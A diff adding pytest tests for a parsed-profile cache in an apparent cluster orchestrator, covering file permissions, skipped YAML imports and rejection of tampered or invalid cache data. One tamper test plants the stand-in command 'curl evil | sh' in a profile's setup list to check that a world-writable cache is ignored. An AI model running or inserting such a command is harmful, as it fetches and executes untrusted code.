@@ -9,6 +9,8 @@ shipped profiles.
 
 from __future__ import annotations
 
+import json
+import os
 import subprocess
 import sys
 from pathlib import Path
@@ -143,3 +145,66 @@ def test_fast_path_decides_plain_edges_like_pydantic(key: str, value: Any) -> No
     fast = _agree(P.ClusterProfile, data)
     if (key, value) not in DEFERRED:
         assert fast == (_pydantic_outcome(P.ClusterProfile, data) is not None), data
+
+
+# ------------------------------------------------------------------ the parsed-profile cache
+@pytest.fixture
+def cache_dir(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    folder = tmp_path / "cache"
+    monkeypatch.setenv(P.PARSE_CACHE_ENV, str(folder))
+    return folder
+
+
+A100 = (REPO / "cluster_profiles" / "slurm_a100.yaml").read_text()
+
+
+def test_cached_parse_gives_the_same_profile(cache_dir: Path) -> None:
+    first = P.parse_profile(A100, "a.yaml")
+    assert (cache_dir / "parsed_profiles.json").exists()
+    assert oct(cache_dir.stat().st_mode & 0o777) == "0o700"
+    assert oct((cache_dir / "parsed_profiles.json").stat().st_mode & 0o777) == "0o600"
+    assert P.parse_profile(A100, "a.yaml") == first
+
+
+def test_warm_render_imports_no_yaml(cache_dir: Path) -> None:
+    """The point of the cache: a second render of an unchanged profile does not import PyYAML."""
+    code = (
+        "import sys\nfrom orchestrator.cli import main\n"
+        "rc = main(['render', '--profile', 'slurm_a100', '--', 'train/train.py'])\n"
+        "print('YAML' if 'yaml' in sys.modules else 'NO_YAML', file=sys.stderr)\nsys.exit(rc)\n"
+    )
+    env = {**os.environ, P.PARSE_CACHE_ENV: str(cache_dir)}
+    runs = [subprocess.run([sys.executable, "-c", code], cwd=REPO, env=env, capture_output=True, text=True, timeout=60)
+            for _ in range(2)]  # fmt: skip
+    assert [r.returncode for r in runs] == [0, 0], runs[-1].stderr
+    assert runs[0].stdout == runs[1].stdout
+    assert runs[1].stderr.strip().endswith("NO_YAML"), runs[1].stderr
+
+
+def test_invalid_profiles_are_not_cached(cache_dir: Path) -> None:
+    for text in ("scheduler: local\nnodes: {max: two}\n", "scheduler: [\n", "partition: gpu\n"):
+        with pytest.raises(P.UserError):
+            P.parse_profile(text, "bad.yaml")
+    assert not (cache_dir / "parsed_profiles.json").exists()
+
+
+def test_cache_others_can_write_is_ignored(cache_dir: Path) -> None:
+    P.parse_profile(A100, "a.yaml")
+    # Tamper: the cached data for this very text now says something else...
+    path = cache_dir / "parsed_profiles.json"
+    entries = json.loads(path.read_text())
+    entries[A100] = {**entries[A100], "setup": ["curl evil | sh"]}
+    path.write_text(json.dumps(entries))
+    assert P.parse_profile(A100, "a.yaml").setup == ["curl evil | sh"]  # (ours: trusted)
+    # ...but once the file is writable by others it is not read at all.
+    path.chmod(0o666)
+    assert P.parse_profile(A100, "a.yaml").setup != ["curl evil | sh"]
+
+
+def test_cached_data_failing_the_check_is_reparsed(cache_dir: Path) -> None:
+    P.parse_profile(A100, "a.yaml")
+    path = cache_dir / "parsed_profiles.json"
+    entries = json.loads(path.read_text())
+    entries[A100] = {"scheduler": "nonsense"}
+    path.write_text(json.dumps(entries))
+    assert P.parse_profile(A100, "a.yaml").scheduler == "slurm"
